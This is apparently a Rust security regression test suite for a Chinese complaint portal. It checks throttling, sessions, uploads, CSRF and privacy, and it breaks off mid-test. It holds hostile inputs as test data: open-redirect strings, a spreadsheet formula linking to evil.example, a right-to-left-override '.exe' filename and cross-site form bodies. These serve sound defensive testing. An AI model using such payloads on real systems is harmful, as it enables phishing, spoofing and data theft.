//! What a hostile stranger tried (issue 10), each as a test: label floods, redirects to
//! other origins, formulas in the register.

use crate::both_backends;
use crate::helpers::{Backend, TestApp, complaint, spawn_app, spawn_app_with};
use crate::pages::csrf_of;
use crate::staff_pages::page;

#[actix_web::test]
async fn made_up_methods_do_not_grow_the_metrics() {
    let app = spawn_app(Backend::Sqlite).await;
    for i in 0..20 {
        let method = reqwest::Method::from_bytes(format!("X{}{i}", "Y".repeat(400)).as_bytes()).unwrap();
        let response = app.api.request(method, app.url("/")).send().await.unwrap();
        assert!(response.status().is_client_error(), "{}", response.status());
    }
    let metrics = app.metrics().await;
    assert!(!metrics.contains("YYYY"), "no label holds what the client sent");
    assert!(metrics.contains("method=\"other\""), "{metrics}");
}

#[actix_web::test]
async fn the_language_switch_and_sign_in_only_go_back_to_our_own_pages() {
    let app = spawn_app(Backend::Sqlite).await;
    let location = |r: &reqwest::Response| r.headers()["location"].to_str().unwrap().to_string();
    for next in [
        "/%09/other.host/x",
        "/%0a/other.host",
        "//other.host",
        "/%5Cother.host",
        "https://other.host",
        "/%20/other.host",
    ] {
        let r = app
            .api
            .get(app.url(&format!("/lang?to=en&next={next}")))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303, "{next}");
        assert_eq!(location(&r), "/", "{next}");
    }
    let r = app
        .api
        .get(app.url("/lang?to=en&next=/track%3Fn%3D1"))
        .send()
        .await
        .unwrap();
    assert_eq!(location(&r), "/track?n=1");

    for next in ["/\t/other.host/", "/\n/other.host", "//other.host"] {
        let browser = app.browser("zh-CN");
        let (_, form) = page(&browser, app.url("/staff/login")).await;
        let r = browser
            .post(app.url("/staff/login"))
            .form(&[
                ("csrf", csrf_of(&form).as_str()),
                ("username", "env"),
                ("password", "huiying-demo"),
                ("next", next),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303, "{next:?}");
        assert_eq!(location(&r), "/staff", "{next:?}");
    }
}

#[actix_web::test]
async fn a_title_written_as_a_formula_stays_text_in_both_registers() {
    use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};

    let app = spawn_app(Backend::Sqlite).await;
    let formula = "=HYPERLINK(\"http://evil.example/?x\",\"Click\")";
    let mut body = complaint();
    body["title"] = serde_json::json!(formula);
    app.file(&body).await;
    let leader = app.token_for("leader").await;
    let register = |format: &str| {
        app.api
            .get(app.url(&format!(
                "/reports/register.{format}?from=2026-11-01&to=2026-11-30"
            )))
            .bearer_auth(&leader)
            .send()
    };

    let csv = register("csv").await.unwrap().text().await.unwrap();
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"Click\"\")\""),
        "{csv}"
    );
    assert!(!csv.contains(",=HYPERLINK"), "no cell starts with =");

    let bytes = register("xlsx").await.unwrap().bytes().await.unwrap().to_vec();
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let cells = book.worksheet_range("台账").unwrap();
    assert!(
        cells
            .rows()
            .any(|row| row.iter().any(|c| *c == Data::String(formula.into()))),
        "the title as a string cell"
    );
    let formulas = book.worksheet_formula("台账").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formulas at all"
    );
}

#[actix_web::test]
async fn published_titles_hide_spaced_and_full_width_numbers_and_addresses() {
    let app = spawn_app(Backend::Sqlite).await;
    for (title, shown) in [
        ("请联系 138 0013 8000 张先生", "请联系 *** 张先生"),
        ("电话１３８００１３８０００请回电", "电话***请回电"),
        ("邮箱zhang＠example.cn有照片", "邮箱***有照片"),
    ] {
        let mut body = complaint();
        body["title"] = serde_json::json!(title);
        let filed = app.file(&body).await;
        let number = filed["tracking_number"].as_str().unwrap();
        let (status, public) = app.get_json(&format!("/api/v1/cases/{number}")).await;
        assert_eq!(status, 200);
        assert_eq!(public["title"], shown, "{public}");
    }
}

#[actix_web::test]
async fn a_title_with_a_line_separator_is_refused_with_its_code() {
    let app = spawn_app(Backend::Sqlite).await;
    let mut body = complaint();
    body["title"] = serde_json::json!("夜间施工\u{2028}噪音扰民");
    let response = app.post_case(&body).await;
    assert_eq!(response.status(), 422);
    let body: serde_json::Value = response.json().await.unwrap();
    assert!(
        body["error"]["fields"]["title"]
            .as_str()
            .unwrap()
            .contains("U+2028"),
        "{body}"
    );
}

async fn sign_in_from(app: &TestApp, address: &str, username: &str, password: &str) -> u16 {
    app.api
        .post(app.url("/api/v1/auth/login"))
        .header("X-Forwarded-For", address)
        .json(&serde_json::json!({"username": username, "password": password}))
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

both_backends!(
    a_burst_of_wrong_passwords_runs_at_most_five_checks,
    strangers_cannot_lock_a_user_out_of_an_address_it_signs_in_from,
);

async fn a_burst_of_wrong_passwords_runs_at_most_five_checks(backend: Backend) {
    let app = spawn_app_with(backend, |s| s.trust_forwarded_for = true).await;
    let before = app.state.passwords.runs();
    let burst = (0..40).map(|i| {
        let app = &app;
        async move { sign_in_from(app, "198.51.100.9", "leader", &format!("guess-{i}")).await }
    });
    let statuses = futures_util::future::join_all(burst).await;
    let checks = app.state.passwords.runs() - before;
    let wrong = statuses.iter().filter(|s| **s == 401).count();
    assert!(checks <= 5, "{checks} password checks ran: {statuses:?}");
    assert_eq!(wrong as u64, checks, "{statuses:?}");
    assert!(
        statuses.iter().all(|s| [401, 429, 503].contains(s)),
        "{statuses:?}"
    );
    assert!(
        statuses.iter().filter(|s| **s == 429).count() >= 35,
        "{statuses:?}"
    );

    // The same burst from forty addresses shares one budget for strangers.
    let before = app.state.passwords.runs();
    let spread = (0..40).map(|i| {
        let app = &app;
        async move { sign_in_from(app, &format!("203.0.113.{i}"), "admin", "guess").await }
    });
    let statuses = futures_util::future::join_all(spread).await;
    assert!(app.state.passwords.runs() - before <= 5, "{statuses:?}");
}

async fn strangers_cannot_lock_a_user_out_of_an_address_it_signs_in_from(backend: Backend) {
    let app = spawn_app_with(backend, |s| s.trust_forwarded_for = true).await;
    let office = "192.0.2.10";
    assert_eq!(sign_in_from(&app, office, "env", "huiying-demo").await, 200);

    // Strangers use up every budget they can reach for "env".
    for i in 0..12 {
        sign_in_from(&app, &format!("203.0.113.{i}"), "env", "wrong").await;
    }
    assert_eq!(
        sign_in_from(&app, "203.0.113.99", "env", "huiying-demo").await,
        429
    );
    // From the office, where env signed in before, env still gets in.
    assert_eq!(sign_in_from(&app, office, "env", "huiying-demo").await, 200);

    // Someone in the office (one proxy address) guessing names uses up the address's
    // budget for strangers; colleagues who sign in there as themselves are not counted in it.
    assert_eq!(sign_in_from(&app, office, "transport", "huiying-demo").await, 200);
    for i in 0..30 {
        sign_in_from(&app, office, &format!("nobody{i}"), "wrong").await;
    }
    assert_eq!(sign_in_from(&app, office, "nobody99", "wrong").await, 429);
    assert_eq!(sign_in_from(&app, office, "transport", "huiying-demo").await, 200);
    assert_eq!(sign_in_from(&app, office, "env", "huiying-demo").await, 200);

    // A user's own address still has its own small budget.
    for _ in 0..5 {
        assert_eq!(sign_in_from(&app, office, "env", "wrong").await, 401);
    }
    let throttled = app
        .api
        .post(app.url("/api/v1/auth/login"))
        .header("X-Forwarded-For", office)
        .json(&serde_json::json!({"username": "env", "password": "huiying-demo"}))
        .send()
        .await
        .unwrap();
    assert_eq!(throttled.status(), 429);
    let wait: u64 = throttled.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=900).contains(&wait), "{wait}");
    app.advance(chrono::Duration::minutes(16));
    assert_eq!(sign_in_from(&app, office, "env", "huiying-demo").await, 200);
}

/// A browser whose cookies the test can read, to replay them later as a thief would.
fn browser_with_jar() -> (reqwest::Client, std::sync::Arc<reqwest::cookie::Jar>) {
    let jar = std::sync::Arc::new(reqwest::cookie::Jar::default());
    let client = reqwest::Client::builder()
        .cookie_provider(jar.clone())
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    (client, jar)
}

fn cookie_of(app: &TestApp, jar: &reqwest::cookie::Jar) -> String {
    use reqwest::cookie::CookieStore;
    let url: reqwest::Url = app.address.parse().unwrap();
    jar.cookies(&url).unwrap().to_str().unwrap().to_string()
}

async fn staff_signed_in_with_jar(app: &TestApp, username: &str) -> (reqwest::Client, String) {
    let (browser, jar) = browser_with_jar();
    let (_, form) = page(&browser, app.url("/staff/login")).await;
    let before = csrf_of(&form);
    let response = browser
        .post(app.url("/staff/login"))
        .form(&[
            ("csrf", before.as_str()),
            ("username", username),
            ("password", "huiying-demo"),
            ("next", "/staff"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 303);
    let (status, queue) = page(&browser, app.url("/staff")).await;
    assert_eq!(status, 200);
    assert_ne!(csrf_of(&queue), before, "signing in renews the CSRF token");
    let cookie = cookie_of(app, &jar);
    (browser, cookie)
}

async fn with_cookie(app: &TestApp, path: &str, cookie: &str) -> reqwest::Response {
    app.api
        .get(app.url(path))
        .header("Cookie", cookie)
        .send()
        .await
        .unwrap()
}

both_backends!(
    signing_out_ends_the_session_even_for_a_saved_cookie,
    sessions_end_after_their_lifetime_and_when_the_account_changes,
);

async fn signing_out_ends_the_session_even_for_a_saved_cookie(backend: Backend) {
    let (app, sink) = crate::residents::app_with_sink(backend, false).await;
    let (staff, saved) = staff_signed_in_with_jar(&app, "env").await;
    assert_eq!(with_cookie(&app, "/staff", &saved).await.status(), 200);
    let (_, queue) = page(&staff, app.url("/staff")).await;
    let out = staff
        .post(app.url("/staff/logout"))
        .form(&[("csrf", csrf_of(&queue))])
        .send()
        .await
        .unwrap();
    assert_eq!(out.status(), 303);
    let replayed = with_cookie(&app, "/staff", &saved).await;
    assert_eq!(
        replayed.status(),
        303,
        "the saved cookie no longer signs anyone in"
    );
    assert!(
        replayed.headers()["location"]
            .to_str()
            .unwrap()
            .starts_with("/staff/login")
    );

    // A resident's session, through the API.
    let (resident, jar) = browser_with_jar();
    let asked = resident
        .post(app.url("/api/v1/account/sign-in"))
        .json(&serde_json::json!({"email": "wang.wu@example.cn"}))
        .send()
        .await
        .unwrap();
    assert_eq!(asked.status(), 202);
    let link =
        crate::residents::mailed_link(&app, &sink, "wang.wu@example.cn", "登录", "/account/link").await;
    let started = resident
        .post(app.url("/api/v1/account/session"))
        .json(&serde_json::json!({ "token": crate::residents::token_in(&link) }))
        .send()
        .await
        .unwrap();
    assert_eq!(started.status(), 200);
    let saved = cookie_of(&app, &jar);
    assert_eq!(
        with_cookie(&app, "/api/v1/account/cases", &saved).await.status(),
        200
    );
    let ended = resident
        .delete(app.url("/api/v1/account/session"))
        .send()
        .await
        .unwrap();
    assert_eq!(ended.status(), 204);
    assert_eq!(
        with_cookie(&app, "/api/v1/account/cases", &saved).await.status(),
        401
    );
}

async fn sessions_end_after_their_lifetime_and_when_the_account_changes(backend: Backend) {
    let app = spawn_app_with(backend, |s| s.staff_session_hours = 2).await;
    let (_, saved) = staff_signed_in_with_jar(&app, "env").await;
    app.advance(chrono::Duration::minutes(119));
    assert_eq!(with_cookie(&app, "/staff", &saved).await.status(), 200);
    app.advance(chrono::Duration::minutes(2));
    assert_eq!(
        with_cookie(&app, "/staff", &saved).await.status(),
        303,
        "past its lifetime"
    );

    // A password change ends every other session of the account.
    let (_, other) = staff_signed_in_with_jar(&app, "transport").await;
    let (changer, mine) = staff_signed_in_with_jar(&app, "transport").await;
    let (_, form) = page(&changer, app.url("/staff/password")).await;
    let changed = changer
        .post(app.url("/staff/password"))
        .form(&[
            ("csrf", csrf_of(&form).as_str()),
            ("current_password", "huiying-demo"),
            ("new_password", "a much longer password"),
            ("repeat_password", "a much longer password"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(changed.status(), 200);
    assert_eq!(with_cookie(&app, "/staff", &other).await.status(), 303);
    assert_eq!(
        with_cookie(&app, "/staff", &mine).await.status(),
        303,
        "the old cookie too"
    );
    assert_eq!(
        page(&changer, app.url("/staff")).await.0,
        200,
        "the changer goes on"
    );
}

/// Sends a request's head and the first bytes of its body, then waits for the answer
/// without sending the rest: only a server that decides before reading the body answers.
async fn answer_before_the_body(app: &TestApp, head: &str, first_bytes: &[u8]) -> Option<String> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let address = app.address.trim_start_matches("http://").to_string();
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(first_bytes).await.unwrap();
    let mut answer = vec![0u8; 4096];
    match tokio::time::timeout(std::time::Duration::from_secs(5), stream.read(&mut answer)).await {
        Ok(Ok(n)) if n > 0 => Some(String::from_utf8_lossy(&answer[..n]).into_owned()),
        _ => None,
    }
}

fn upload_head(path: &str, extra: &str, length: u64) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=XYZ\r\n\
         Content-Length: {length}\r\n{extra}\r\n"
    )
}

const PART_HEAD: &[u8] =
    b"--XYZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.jpg\"\r\n\r\n\xff\xd8\xff\xe0";

both_backends!(uploads_are_refused_before_their_body_is_read_unless_the_proof_holds);

async fn uploads_are_refused_before_their_body_is_read_unless_the_proof_holds(backend: Backend) {
    let app = spawn_app(backend).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let token = filed["access_token"].as_str().unwrap();
    let status_of = |answer: Option<String>| {
        answer
            .and_then(|a| a.split(' ').nth(1).map(str::to_string))
            .unwrap_or_else(|| "no answer".into())
    };

    // A made-up token: refused at once, though 40 MB are announced and few sent.
    let api = format!("/api/v1/cases/{number}/attachments");
    let answer = answer_before_the_body(
        &app,
        &upload_head(&api, "Authorization: Bearer made-up\r\n", 40 << 20),
        PART_HEAD,
    )
    .await;
    assert_eq!(status_of(answer), "403");
    // No proof at all, API and page.
    let answer = answer_before_the_body(&app, &upload_head(&api, "", 40 << 20), PART_HEAD).await;
    assert_eq!(status_of(answer), "401");
    let page = format!("/cases/{number}/attachments");
    let answer = answer_before_the_body(&app, &upload_head(&page, "", 40 << 20), PART_HEAD).await;
    assert_eq!(status_of(answer), "403");
    let answer = answer_before_the_body(
        &app,
        &upload_head(&format!("{page}?token=made-up"), "", 40 << 20),
        PART_HEAD,
    )
    .await;
    assert_eq!(status_of(answer), "403");
    // The right token, but more announced than a case may take: 413 before reading it.
    let answer = answer_before_the_body(
        &app,
        &upload_head(&api, &format!("Authorization: Bearer {token}\r\n"), 60 << 20),
        PART_HEAD,
    )
    .await;
    assert_eq!(status_of(answer), "413");
}

/// A multipart body of many small text fields, as the tester sent.
fn many_fields(count: usize) -> (Vec<u8>, String) {
    let mut body = Vec::new();
    for i in 0..count {
        body.extend_from_slice(
            format!("--XYZ\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nxxxx\r\n").as_bytes(),
        );
    }
    body.extend_from_slice(b"--XYZ--\r\n");
    (body, "multipart/form-data; boundary=XYZ".into())
}

#[actix_web::test]
async fn an_upload_body_is_held_to_its_parts_fields_and_total_while_it_streams() {
    let app = spawn_app(Backend::Sqlite).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let token = filed["access_token"].as_str().unwrap();
    let url = app.url(&format!("/api/v1/cases/{number}/attachments"));

    let (body, content_type) = many_fields(25_000);
    let response = app
        .api
        .post(&url)
        .bearer_auth(token)
        .header("Content-Type", content_type.clone())
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 413);
    let error: serde_json::Value = response.json().await.unwrap();
    assert_eq!(error["error"]["code"], "upload_refused", "{error}");

    let long_field = format!(
        "--XYZ\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{}\r\n--XYZ--\r\n",
        "x".repeat(10_000)
    );
    let response = app
        .api
        .post(&url)
        .bearer_auth(token)
        .header("Content-Type", content_type.clone())
        .body(long_field)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 413, "a text field is short");

    // No length announced (chunked), and more than five files' worth of preamble.
    let chunks = futures_util::stream::iter((0..60).map(|_| Ok::<_, std::io::Error>(vec![b'a'; 1 << 20])));
    let response = app
        .api
        .post(&url)
        .bearer_auth(token)
        .header("Content-Type", content_type)
        .body(reqwest::Body::wrap_stream(chunks))
        .send()
        .await;
    match response {
        Ok(r) => assert_eq!(r.status(), 413),
        // The server may close the connection while the client is still sending.
        Err(e) => assert!(e.is_request() || e.is_body(), "{e}"),
    }
    // Nothing was stored, nothing is left spooled.
    let (_, view) = app
        .get_json(&format!("/api/v1/cases/{number}?token={token}"))
        .await;
    assert_eq!(view["attachments"].as_array().map(Vec::len), Some(0), "{view}");
    let spooled = std::fs::read_dir(app.data_dir.join("uploads-tmp"))
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(spooled, 0, "spooled files are removed");
}

#[actix_web::test]
async fn uploads_past_the_slots_are_turned_away_at_once() {
    let app = spawn_app_with(Backend::Sqlite, |s| s.upload_slots = 1).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let token = filed["access_token"].as_str().unwrap();
    let api = format!("/api/v1/cases/{number}/attachments");
    // One upload arrives slowly and holds the only slot.
    use tokio::io::AsyncWriteExt;
    let mut slow = tokio::net::TcpStream::connect(app.address.trim_start_matches("http://"))
        .await
        .unwrap();
    slow.write_all(upload_head(&api, &format!("Authorization: Bearer {token}\r\n"), 1 << 20).as_bytes())
        .await
        .unwrap();
    slow.write_all(PART_HEAD).await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let second = app
        .api
        .post(app.url(&api))
        .bearer_auth(token)
        .multipart(
            reqwest::multipart::Form::new().part(
                "file",
                reqwest::multipart::Part::bytes(huiying::domain::upload::fixtures::jpeg_with_location())
                    .file_name("b.jpg"),
            ),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(second.status(), 503);
    assert!(second.headers().contains_key("retry-after"));
    drop(slow);
}

#[actix_web::test]
async fn what_phones_append_to_photos_and_private_png_chunks_are_not_stored() {
    use huiying::domain::upload::fixtures::{jpeg_with_trailers, png_of_size, png_with_private_chunks};
    let app = spawn_app(Backend::Sqlite).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let token = filed["access_token"].as_str().unwrap();
    let send = |name: &'static str, bytes: Vec<u8>| {
        app.api
            .post(app.url(&format!("/api/v1/cases/{number}/attachments")))
            .bearer_auth(token)
            .multipart(
                reqwest::multipart::Form::new()
                    .part("file", reqwest::multipart::Part::bytes(bytes).file_name(name)),
            )
            .send()
    };
    let response = send("motion.jpg", jpeg_with_trailers()).await.unwrap();
    assert_eq!(response.status(), 201);
    let response = send("chart.png", png_with_private_chunks()).await.unwrap();
    assert_eq!(response.status(), 201);
    let body: serde_json::Value = response.json().await.unwrap();
    for file in body["attachments"].as_array().unwrap() {
        let url = file["url"].as_str().unwrap();
        let stored = app
            .api
            .get(app.url(&format!("{url}?token={token}")))
            .send()
            .await
            .unwrap()
            .bytes()
            .await
            .unwrap();
        for secret in [&b"ftyp"[..], b"GPS", b"<html", b"Zhang", b"PK\x03\x04", b"prVt"] {
            assert!(
                !stored.windows(secret.len()).any(|w| w == secret),
                "{url} kept {secret:?}"
            );
        }
    }

    let response = send("huge.png", png_of_size(20_000, 20_000)).await.unwrap();
    assert_eq!(response.status(), 422);
    let body: serde_json::Value = response.json().await.unwrap();
    assert!(
        body["error"]["message"].as_str().unwrap().contains("百万像素"),
        "{body}"
    );
    let response = send(
        "photo\u{202E}gpj.exe",
        huiying::domain::upload::fixtures::jpeg_with_location(),
    )
    .await
    .unwrap();
    assert_eq!(response.status(), 422);
    let body: serde_json::Value = response.json().await.unwrap();
    assert!(
        body["error"]["message"].as_str().unwrap().contains("不可见字符"),
        "{body}"
    );
}

both_backends!(reception_bookings_and_queues_tell_nothing_to_the_wrong_people);

async fn reception_bookings_and_queues_tell_nothing_to_the_wrong_people(backend: Backend) {
    use serde_json::json;
    let app = spawn_app(backend).await;
    let leader = app.token_for("leader").await;
    let admin = app.token_for("admin").await;
    app.add_account("leader2", "leader", None).await;
    let publish = |date: &'static str| {
        let (app, admin) = (&app, &admin);
        async move {
            let response = app
                .api
                .post(app.url("/api/v1/reception-days"))
                .bearer_auth(admin)
                .json(&json!({"date": date, "starts_at": "09:00", "ends_at": "11:30",
                    "place": "市民中心三楼接待室", "capacity": 5, "leader": "leader"}))
                .send()
                .await
                .unwrap();
            assert_eq!(response.status(), 201);
            response.json::<serde_json::Value>().await.unwrap()["id"]
                .as_i64()
                .unwrap()
        }
    };
    let (booked_day, other_day) = (publish("2026-12-10").await, publish("2026-12-17").await);
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let token = filed["access_token"].as_str().unwrap();
    let booked = app
        .api
        .post(app.url(&format!("/api/v1/reception-days/{booked_day}/bookings")))
        .bearer_auth(token)
        .json(&json!({ "tracking_number": number }))
        .send()
        .await
        .unwrap();
    assert_eq!(booked.status(), 201);

    // A wrong token gets one answer whatever the day: nothing tells which one is booked.
    for day in [booked_day, other_day, 9999] {
        let response = app
            .api
            .delete(app.url(&format!("/api/v1/reception-days/{day}/bookings/{number}")))
            .bearer_auth("wrong-token")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 403, "day {day}");
    }
    // The right token on the wrong day: not found.
    let response = app
        .api
        .delete(app.url(&format!("/api/v1/reception-days/{other_day}/bookings/{number}")))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 404);

    // Administrators arrange the days; what residents wrote is for the leaders.
    let (status, queue) = app
        .get_with(&admin, &format!("/api/v1/reception-days/{booked_day}/queue"))
        .await;
    assert_eq!(status, 200);
    let entry = &queue["entries"][0];
    assert_eq!(entry["tracking_number"], number);
    assert!(entry["title"].is_null(), "{entry}");
    assert_eq!(entry["timeline"], json!([]));
    assert!(!queue.to_string().contains("夜间施工") && !queue.to_string().contains("东门社区"));
    let (_, for_leader) = app
        .get_with(&leader, &format!("/api/v1/reception-days/{booked_day}/queue"))
        .await;
    assert_eq!(for_leader["entries"][0]["title"], "夜间施工噪音扰民");
    let admin_page = crate::staff_pages::signed_in(&app, "admin").await;
    let (status, html) = page(&admin_page, app.url(&format!("/leader/days/{booked_day}"))).await;
    assert_eq!(status, 200);
    assert!(!html.contains("夜间施工") && !html.contains("东门社区"), "{html}");
    assert!(html.contains("只向接待的领导显示"));

    // On the day, only its own leader records the meeting.
    app.advance(chrono::Duration::days(14));
    let booking = for_leader["entries"][0]["booking"].as_i64().unwrap();
    let record = |token: String| {
        let app = &app;
        async move {
            app.api
                .post(app.url(&format!("/api/v1/bookings/{booking}/meeting")))
                .bearer_auth(token)
                .json(&json!({"attended": true, "outcome": "当面解释了处理进展。"}))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    assert_eq!(record(app.token_for("leader2").await).await, 403);
    assert_eq!(record(app.token_for("leader").await).await, 200);
}

/// A client signed in as a resident by the mailed link (its cookies kept).
async fn resident_with_cookie(app: &TestApp, sink: &crate::smtp::SmtpSink, email: &str) -> reqwest::Client {
    let (resident, _jar) = browser_with_jar();
    let asked = resident
        .post(app.url("/api/v1/account/sign-in"))
        .json(&serde_json::json!({ "email": email }))
        .send()
        .await
        .unwrap();
    assert_eq!(asked.status(), 202);
    let link = crate::residents::mailed_link(app, sink, email, "登录", "/account/link").await;
    let started = resident
        .post(app.url("/api/v1/account/session"))
        .json(&serde_json::json!({ "token": crate::residents::token_in(&link) }))
        .send()
        .await
        .unwrap();
    assert_eq!(started.status(), 200);
    resident
}

both_backends!(writes_authenticated_by_the_cookie_alone_must_be_json);

async fn writes_authenticated_by_the_cookie_alone_must_be_json(backend: Backend) {
    let (app, sink) = crate::residents::app_with_sink(backend, false).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let token = filed["access_token"].as_str().unwrap();
    let resident = resident_with_cookie(&app, &sink, "zhang.san@example.cn").await;
    let withdraw = app.url(&format!("/api/v1/cases/{number}/withdraw"));

    // What a form on another site could send: refused, and nothing happens.
    for (content_type, body) in [
        ("text/plain", "{}"),
        ("application/x-www-form-urlencoded", "a=b"),
        ("multipart/form-data; boundary=X", "--X--\r\n"),
    ] {
        let response = resident
            .post(&withdraw)
            .header("Content-Type", content_type)
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 403, "{content_type}");
    }
    let upload = resident
        .post(app.url(&format!("/api/v1/cases/{number}/attachments")))
        .multipart(
            reqwest::multipart::Form::new().part(
                "file",
                reqwest::multipart::Part::bytes(huiying::domain::upload::fixtures::jpeg_with_location())
                    .file_name("a.jpg"),
            ),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(
        upload.status(),
        403,
        "a cross-site multipart form cannot add files either"
    );
    let (_, view) = app
        .get_json(&format!("/api/v1/cases/{number}?token={token}"))
        .await;
    assert_eq!(view["state"], "routed", "not withdrawn");
    assert_eq!(view["attachments"].as_array().map(Vec::len), Some(0));

    // A body that is not JSON is never taken for "no fields", whoever sends it.
    let response = app
        .api
        .post(&withdraw)
        .bearer_auth(token)
        .header("Content-Type", "text/plain")
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 415);

    // JSON from the resident's own script works.
    let response = resident
        .post(&withdraw)
        .json(&serde_json::json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
}

both_backends!(one_address_may_not_mail_strangers_in_bulk);

async fn one_address_may_not_mail_strangers_in_bulk(backend: Backend) {
    let app = spawn_app_with(backend, |s| s.new_address_mails_per_hour = 3).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let ask = |path: String, email: String| {
        let app = &app;
        async move {
            app.api
                .post(app.url(&path))
                .json(&serde_json::json!({ "email": email }))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    let sign_in = "/api/v1/account/sign-in".to_string();
    let support = format!("/api/v1/cases/{number}/support");
    for (path, email, status) in [
        (&sign_in, "a@example.cn", 202),
        (&support, "b@example.cn", 202),
        (&sign_in, "c@example.cn", 202),
        // A fourth stranger, by either way.
        (&sign_in, "d@example.cn", 429),
        (&support, "e@example.cn", 429),
        // Addresses the portal has written to before are not strangers: one it sent a
        // link to, and the filer of a case.
        (&sign_in, "a@example.cn", 202),
        (&sign_in, "zhang.san@example.cn", 202),
    ] {
        assert_eq!(ask(path.clone(), email.into()).await, status, "{path} {email}");
    }
}

both_backends!(public_look_ups_are_limited_and_reports_about_officials_keep_their_routing_to_themselves);

async fn public_look_ups_are_limited_and_reports_about_officials_keep_their_routing_to_themselves(
    backend: Backend,
) {
    let app = spawn_app_with(backend, |s| s.lookup_limit_per_hour = 3).await;
    let mut report = complaint();
    report["category"] = serde_json::json!("official-misconduct");
    report["area"] = serde_json::json!("LJ-QS-TX");
    report["concerned_department"] = serde_json::json!("transport");
    let filed = app.file(&report).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let token = filed["access_token"].as_str().unwrap();

    let (status, public) = app.get_json(&format!("/api/v1/cases/{number}")).await;
    assert_eq!(status, 200);
    assert!(
        public["category"].is_null() && public["department"].is_null(),
        "{public}"
    );
    let browser = app.browser("zh-CN");
    let (status, tracked) = page(&browser, app.url(&format!("/track?number={number}"))).await;
    assert_eq!(status, 200);
    assert!(tracked.contains("检举控告类事项不公开"), "{tracked}");
    assert!(
        !tracked.contains("纪委") && !tracked.contains("监委") && !tracked.contains("公职人员"),
        "{tracked}"
    );
    // The resident still sees where their report went.
    let (_, own) = app
        .get_json(&format!("/api/v1/cases/{number}?token={token}"))
        .await;
    assert_eq!(own["department"]["code"], "discipline");

    // Three look-ups an hour from one address here (the resident's own counted too, by
    // the API); the fourth waits, with a reason.
    let (status, tracked) = page(&browser, app.url(&format!("/track?number={number}"))).await;
    assert_eq!(status, 429, "{tracked}");
    assert!(tracked.contains("查询次数过多"));
    let refused = app
        .api
        .get(app.url(&format!("/api/v1/cases/{number}")))
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), 429);
    assert!(refused.headers().contains_key("retry-after"));
    // Staff are not counted.
    let env = app.token_for("intake").await;
    assert_eq!(
        app.get_with(&env, &format!("/api/v1/cases/{number}")).await.0,
        200
    );
    app.advance(chrono::Duration::minutes(20));
    assert_eq!(app.get_json(&format!("/api/v1/cases/{number}")).await.0, 200);
}

#[actix_web::test]
async fn nothing_personal_is_stored_by_browsers_or_proxies() {
    let app = spawn_app(Backend::Sqlite).await;
    let filed = app.file(&complaint()).await;
    let number = filed["tracking_number"].as_str().unwrap();
    let token = filed["access_token"].as_str().unwrap();
    let intake = app.token_for("intake").await;
    let leader = app.token_for("leader").await;
    let cache_of = |r: &reqwest::Response| {
        r.headers()
            .get("cache-control")
            .map(|v| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    };
    for (path, bearer) in [
        (format!("/cases/{number}?token={token}"), None),
        (format!("/api/v1/cases/{number}?token={token}"), None),
        (format!("/api/v1/cases/{number}/data?token={token}"), None),
        (format!("/cases/{number}/data?token={token}"), None),
        (format!("/api/v1/cases/{number}/contact"), Some(&intake)),
        (
            "/reports/register.csv?from=2026-11-01&to=2026-11-30".to_string(),
            Some(&leader),
        ),
        ("/".to_string(), None),
    ] {
        let mut request = app.api.get(app.url(&path));
        if let Some(bearer) = bearer {
            request = request.bearer_auth(bearer);
        }
        let response = request.send().await.unwrap();
        assert!(response.status().is_success(), "{path}: {}", response.status());
        assert!(
            cache_of(&response).contains("no-store"),
            "{path}: {:?}",
            cache_of(&response)
        );
    }
    let staff = crate::staff_pages::signed_in(&app, "intake").await;
